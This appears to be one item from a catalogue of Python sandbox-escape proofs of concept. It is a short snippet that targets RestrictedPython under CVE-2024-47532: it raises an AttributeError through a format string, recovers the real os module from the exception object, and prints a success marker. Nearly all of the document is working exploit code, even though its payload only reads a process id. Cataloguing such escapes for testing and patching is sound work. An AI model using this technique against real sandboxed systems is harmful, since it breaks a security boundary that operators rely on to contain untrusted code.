# technique: AttributeError.obj is a real module
# goal: import
# source: RestrictedPython, CVE-2024-47532
import contextlib
try:
    '{0.os.nothing}'.format(contextlib)
except AttributeError as error:
    print('ESCAPED pid=%d' % error.obj.getpid())
